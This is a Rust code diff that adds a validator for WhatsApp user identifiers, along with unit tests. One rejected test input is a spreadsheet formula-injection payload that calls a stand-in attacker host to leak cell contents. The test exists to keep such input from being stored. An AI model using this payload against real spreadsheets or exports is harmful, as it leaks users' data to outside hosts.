@@ -42,6 +42,20 @@ pub fn phone_digits(jid: &str) -> Option<&str> {
     (!user.is_empty() && user.bytes().all(|b| b.is_ascii_digit())).then_some(user)
 }
 
+/// Whether `jid` is a person's identity as the contract defines it:
+/// `<digits>@s.whatsapp.net` (with an optional `:<device>`) or
+/// `<digits>@lid`. Anything else from the server is not stored.
+pub fn is_valid_jid(jid: &str) -> bool {
+    let digits = |s: &str| !s.is_empty() && s.len() <= 32 && s.bytes().all(|b| b.is_ascii_digit());
+    if let Some(user) = jid.strip_suffix(PHONE_SUFFIX) {
+        return match user.split_once(':') {
+            Some((number, device)) => digits(number) && digits(device),
+            None => digits(user),
+        };
+    }
+    jid.strip_suffix(LID_SUFFIX).is_some_and(digits)
+}
+
 /// Why typed text is not a number we can act on.
 #[derive(Debug, Error, PartialEq, Eq)]
 pub enum NumberError {
@@ -64,7 +78,7 @@ pub fn normalize(input: &str) -> Result<String, NumberError> {
     if input.contains('@') {
         return match jid_kind(input) {
             JidKind::Phone if phone_digits(input).is_some() => Ok(input.to_string()),
-            JidKind::Lid if input.len() > LID_SUFFIX.len() => Ok(input.to_string()),
+            JidKind::Lid if is_valid_jid(input) => Ok(input.to_string()),
             JidKind::Group => Err(NumberError::Group(input.to_string())),
             JidKind::Channel => Err(NumberError::Channel(input.to_string())),
             _ => Err(NumberError::NotANumber(input.to_string())),
@@ -148,6 +162,29 @@ mod tests {
             normalize("abc@s.whatsapp.net"),
             Err(NumberError::NotANumber(_))
         ));
+    }
+
+    #[test]
+    fn only_digits_before_the_server_make_a_jid() {
+        for good in [
+            "5511999999999@s.whatsapp.net",
+            "5511999999999:12@s.whatsapp.net",
+            "123456789@lid",
+        ] {
+            assert!(is_valid_jid(good), "{good}");
+        }
+        for bad in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid",
+            "@lid",
+            "12 34@lid",
+            "1@g.us",
+            "abc@s.whatsapp.net",
+            "1:@s.whatsapp.net",
+            "5511999999999",
+            "+5511999999999@s.whatsapp.net",
+        ] {
+            assert!(!is_valid_jid(bad), "{bad}");
+        }
     }
 
     #[test]
